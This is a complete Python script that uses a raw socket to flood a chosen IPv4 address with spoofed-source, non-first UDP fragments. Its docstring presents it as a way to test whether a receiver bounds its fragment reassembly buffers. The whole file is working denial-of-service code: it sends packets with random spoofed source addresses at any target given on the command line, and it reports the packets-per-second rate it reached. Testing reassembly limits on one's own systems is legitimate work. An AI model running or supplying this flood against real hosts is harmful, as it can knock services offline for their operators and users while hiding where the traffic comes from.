#!/usr/bin/python3
"""Flood ADDR with IPv4 non-first fragments from random sources for SECONDS.

  frag_flood.py --addr 192.0.2.10 --seconds 5 [--sources 198.18.0.0/15]

Each packet is a UDP fragment at a nonzero offset with More Fragments set, a
random identification and a random source address in --sources: the first
fragment never comes, so a receiver that holds fragments waiting for it has
to bound what it holds. Sent through a raw socket (IP_HDRINCL; the kernel
fills in the header checksum). Needs root.

Prints {"sent":N,"seconds":S,"pps":P}.
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import time


def fragment(src: int, dst: bytes, ident: int, offset_units: int, payload: bytes) -> bytes:
    flags_frag = 0x2000 | offset_units  # MF, offset in 8-byte units
    header = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,  # version 4, IHL 5
        0,
        20 + len(payload),
        ident,
        flags_frag,
        64,  # TTL
        socket.IPPROTO_UDP,
        0,  # checksum: the kernel fills it in with IP_HDRINCL
        struct.pack("!I", src),
        dst,
    )
    return header + payload


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--addr", required=True)
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--sources", default="198.18.0.0/15")
    ap.add_argument("--size", type=int, default=64, help="fragment payload bytes (multiple of 8)")
    args = ap.parse_args()

    net = ipaddress.ip_network(args.sources)
    base, span = int(net.network_address), net.num_addresses
    dst = socket.inet_aton(args.addr)
    payload = b"f" * (args.size & ~7)
    rng = random.Random(0x0F1A9)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)

    sent = 0
    start = time.monotonic()
    end = start + args.seconds
    while time.monotonic() < end:
        for _ in range(256):
            pkt = fragment(base + rng.randrange(span), dst, rng.randrange(65536),
                           rng.randrange(1, 180), payload)
            try:
                s.sendto(pkt, (args.addr, 0))
                sent += 1
            except OSError:
                pass  # a full queue: keep going, the rate is what it is
    secs = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(secs, 3), "pps": int(sent / secs)}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
